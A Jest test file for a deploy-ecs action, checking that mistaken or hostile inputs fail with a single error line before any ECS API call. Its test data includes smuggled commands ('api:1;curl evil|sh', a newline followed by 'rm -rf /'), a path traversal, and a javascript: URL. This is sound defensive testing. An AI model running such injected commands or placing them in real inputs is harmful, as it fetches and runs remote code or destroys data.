/**
 * Hostile and mistaken inputs: each fails with one line naming the input, and before any API call (the
 * emulator counts every request it receives).
 */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { EcsEmulator } from '../../packages/emulators/src/ecs';
import { deployEcs, startEcs } from './fixture';

let ecs: EcsEmulator;
beforeAll(async () => {
  ecs = await startEcs();
});
afterAll(() => ecs.close());

const IMG = 'registry.example.com/acme/api:1.2.3';
const cases: [string, Record<string, string | number>, RegExp][] = [
  ['no service', {}, /Input "service": is required/],
  ['service with a slash path', { service: '../../etc/passwd' }, /Input "service": .*not a service name/],
  ['service with a newline', { service: 'api\nrm -rf /' }, /Input "service"/],
  ['cluster with spaces', { service: 'api', cluster: 'my cluster' }, /Input "cluster"/],
  ['region that is not one', { service: 'api', region: 'mars-1' }, /Input "region"/],
  ['image with shell', { service: 'api', image: 'api:1;curl evil|sh' }, /Input "image": .*not an image reference/],
  ['image upper-case path', { service: 'api', image: 'Registry/ACME/Api' }, /Input "image"/],
  ['image and images', { service: 'api', image: IMG, images: `api=${IMG}` }, /Input "image": cannot be combined/],
  ['container without image', { service: 'api', container: 'api' }, /Input "container": is set without "image"/],
  ['images line without =', { service: 'api', images: IMG }, /Input "images": .*CONTAINER=IMAGE/],
  ['images twice', { service: 'api', images: `api=${IMG}\napi=${IMG}` }, /Input "images": api is given twice/],
  [
    'task-definition missing',
    { service: 'api', 'task-definition': 'nope.json' },
    /Input "task-definition": .*does not exist/,
  ],
  [
    'task-definition not JSON',
    { service: 'api', 'task-definition': 'bad.json' },
    /Input "task-definition": .*not a task definition/,
  ],
  ['env var name bad', { service: 'api', 'env-vars': '1BAD=x' }, /Input "env-vars": .*not a variable name/],
  ['env var no =', { service: 'api', 'env-vars': 'JUSTTEXT' }, /Input "env-vars": .*NAME=VALUE/],
  ['env var twice', { service: 'api', 'env-vars': 'A=1\nA=2' }, /Input "env-vars": A is given twice/],
  [
    'secret as a value',
    { service: 'api', secrets: 'DB=postgres://u:hunter2@db/app' },
    /Input "secrets": .*not a Secrets Manager or SSM reference/,
  ],
  [
    'secret also env',
    { service: 'api', 'env-vars': 'DB=x', secrets: 'DB=arn:aws:secretsmanager:us-east-1:123456789012:secret:db' },
    /Input "secrets": DB is also set/,
  ],
  ['desired-count negative', { service: 'api', 'desired-count': -1 }, /Input "desired-count"/],
  ['desired-count text', { service: 'api', 'desired-count': 'many' }, /Input "desired-count": .*not a whole number/],
  ['desired-count 0 with image', { service: 'api', 'desired-count': 0, image: IMG }, /Input "desired-count": is 0/],
  ['strategy unknown', { service: 'api', strategy: 'yolo' }, /Input "strategy": .*not one of the choices/],
  [
    'canary-percent without canary',
    { service: 'api', 'canary-percent': '10%' },
    /Input "canary-percent": is only used with strategy: canary/,
  ],
  ['canary-percent 0', { service: 'api', strategy: 'canary', 'canary-percent': '0' }, /Input "canary-percent"/],
  [
    'linear step too small',
    { service: 'api', strategy: 'linear', 'linear-step-percent': '1%' },
    /Input "linear-step-percent"/,
  ],
  [
    'bake-time with rolling',
    { service: 'api', 'bake-time': '5m' },
    /Input "bake-time": has no effect with strategy: rolling/,
  ],
  [
    'bake-time in seconds',
    { service: 'api', strategy: 'blue-green', 'bake-time': '90s' },
    /Input "bake-time": .*whole minutes/,
  ],
  ['health-path without slash', { service: 'api', 'health-path': 'health' }, /Input "health-path"/],
  ['health-url javascript', { service: 'api', 'health-url': 'javascript:alert(1)' }, /Input "health-url"/],
  [
    'health-url with credentials',
    { service: 'api', 'health-url': 'https://u:p@example.com/h' },
    /Input "health-url": carries credentials/,
  ],
  [
    'health-expected-status bad',
    { service: 'api', 'health-path': '/h', 'health-expected-status': '600' },
    /Input "health-expected-status"/,
  ],
  ['timeout not a duration', { service: 'api', timeout: 'forever' }, /Input "timeout"/],
  ['timeout too short', { service: 'api', timeout: '1s' }, /Input "timeout": .*too short/],
  [
    'wait false with a gate',
    { service: 'api', wait: 'false', 'health-path': '/h' },
    /Input "wait": is false but a health gate/,
  ],
  ['wait not boolean', { service: 'api', wait: 'maybe' }, /Input "wait": .*not a boolean/],
  ['maintenance unknown', { service: 'api', maintenance: 'half' }, /Input "maintenance"/],
  [
    'maintenance with a deploy',
    { service: 'api', maintenance: 'on', image: IMG },
    /Input "maintenance": .*cannot be combined/,
  ],
];

describe('deploy-ecs inputs', () => {
  it.each(cases)('%s', async (_name, inputs, message) => {
    const before = ecs.count();
    const workspace = join(process.cwd(), 'test', 'deploy-ecs');
    writeFileSync(join('/tmp', 'deploy-ecs-bad.json'), '{ not json');
    const result = await deployEcs(
      ecs,
      {
        ...inputs,
        ...(inputs['task-definition'] === 'bad.json' ? { 'task-definition': '/tmp/deploy-ecs-bad.json' } : {}),
      },
      { workspace },
    );
    expect(result.exitCode).toBe(1);
    expect(result.errors).toHaveLength(1);
    expect(result.errors[0]).toMatch(message);
    expect(result.errors[0]).not.toMatch(/\n| {4}at /);
    expect(result.errors[0]).not.toContain('hunter2');
    expect(ecs.count()).toBe(before);
  });
});
